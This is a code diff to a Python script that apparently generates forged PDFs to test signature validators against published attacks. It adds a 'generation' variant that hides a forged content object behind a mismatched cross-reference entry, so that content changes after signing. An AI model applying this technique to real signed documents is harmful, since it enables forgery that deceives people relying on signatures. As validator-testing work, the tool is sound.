@@ -58,6 +58,11 @@ holds): what the published attacks on PDF signatures add after signing.
                  number written but listed nowhere (a reader that finds the
                  object missing rebuilds the cross-reference from the
                  objects it finds)
+  generation     the catalog written again as it was, listed with
+                 generation 1 while its header says 0, and a forged content
+                 object listed nowhere: a reader that finds the catalog not
+                 where the cross-reference says rebuilds it from the
+                 objects it finds, and the forged one is the newest
   drop-provider  the provider's field taken out of /AcroForm /Fields, and
                  page 1's content forged
   acroform-info  the catalog's /AcroForm pointed at the /Info dictionary,
@@ -212,6 +217,7 @@ def xref_update(kind, src, out):
         forged = forged_in_page_font(page)
         size = int(r.trailer["/Size"])
         prev = r.last_startxref
+        r_root = r.trailer.raw_get("/Root").idnum
         keep = io.BytesIO()
         for k in ("/Root", "/Info", "/ID"):
             keep.write(k.encode() + b" ")
@@ -235,7 +241,14 @@ def xref_update(kind, src, out):
     def entry(offset, kind=b"n", gen=0):
         return b"%010d %05d %s\r\n" % (offset, gen, kind)
 
-    if kind == "free-stray":
+    if kind == "generation":
+        root = r_root
+        at = [m.start() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % root, data)][-1]
+        catalog = data[at : data.index(b"endobj", at) + 6]
+        copy = add(catalog + b"\n")
+        stream(c, b"", forged)
+        xref = add(b"xref\n%d 1\n" % root + entry(copy, gen=1) + b"trailer\n<< /Size %d /Prev %d %s>>\n" % (size, prev, keys))
+    elif kind == "free-stray":
         stream(c, b"", forged)
         xref = add(b"xref\n%d 1\n" % c + entry(0, b"f", 1) + b"trailer\n<< /Size %d /Prev %d %s>>\n" % (size, prev, keys))
     else:
@@ -275,7 +288,7 @@ def main(kind, src, out, *rest):
     if kind == "xref-repoint":
         xref_repoint(src, out)
         return
-    if kind in ("xrefstm", "dup", "index-dup", "free-stray"):
+    if kind in ("xrefstm", "dup", "index-dup", "free-stray", "generation"):
         xref_update(kind, src, out)
         return
     with open(src, "rb") as f:
